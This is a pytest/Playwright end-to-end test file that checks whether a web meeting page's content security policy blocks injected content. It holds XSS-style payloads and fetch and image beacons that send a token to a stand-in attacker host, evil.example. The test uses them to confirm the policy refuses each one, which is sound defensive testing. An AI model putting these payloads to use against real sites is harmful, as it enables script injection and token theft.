"""The page's policy in a real browser: what stands in markup does not run, and nothing leaks out.

That the page works under it, every other test of this folder shows: each fails on a violation.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from benchmarks.browser import faults_of, open_page
from tests.e2e.test_control import MINUTE, open_meeting

pytestmark = pytest.mark.e2e

_INJECT = """html => {
  const holder = document.createElement("div");
  holder.innerHTML = html;
  for (const one of holder.querySelectorAll("script")) {
    const script = document.createElement("script");  // one that innerHTML makes never runs
    if (one.src) script.src = one.src;
    script.textContent = one.textContent;
    one.replaceWith(script);
  }
  document.body.append(holder);
}"""
_HOSTILE = {
    "a script in markup": ("<script>window.hacked = 1</script>", "script-src"),
    "a handler": ("<img src='/icon.svg' onload='window.hacked = 1'>", "script-src"),
    "another host's script": ("<script src='https://evil.example/a.js'></script>", "script-src"),
    "a style": ("<p style='position:fixed'>", "style-src"),
    "a picture that tells": ("<img src='https://evil.example/?token'>", "img-src"),
    "a frame": ("<iframe src='/docs'></iframe>", "default-src"),
    "a plug-in": ("<object data='/icon.svg'></object>", "default-src"),
}
_TELL = "fetch('https://evil.example/?token').then(() => 'sent', () => 'kept')"


@pytest.fixture
def hostile_page(demo: str) -> Iterator[Page]:
    """The meeting's door, in a page whose violations are no fault of the test."""
    with open_page() as first:
        browser = first.context.browser
        assert browser is not None
        with browser.new_page() as page:
            page.goto(open_meeting(demo, page))
            expect(page.get_by_test_id("start-join")).to_be_visible(timeout=MINUTE)
            yield page


@pytest.mark.parametrize("what", _HOSTILE)
def test_what_is_injected_into_the_page_does_nothing(hostile_page: Page, what: str):
    markup, directive = _HOSTILE[what]
    refused = faults_of(hostile_page)
    hostile_page.evaluate(_INJECT, markup)
    hostile_page.wait_for_timeout(300)
    assert hostile_page.evaluate("window.hacked") is None
    assert refused
    assert any(directive in one for one in refused), refused


def test_no_address_but_the_gateways_hears_anything(hostile_page: Page):
    # the page would load itself anew, as for a gateway that it doesn't know
    hostile_page.evaluate("sessionStorage.setItem('metanerf.reloaded', String(Date.now()))")
    refused = faults_of(hostile_page)
    assert hostile_page.evaluate(_TELL) == "kept"
    assert "connect-src" in refused[0]
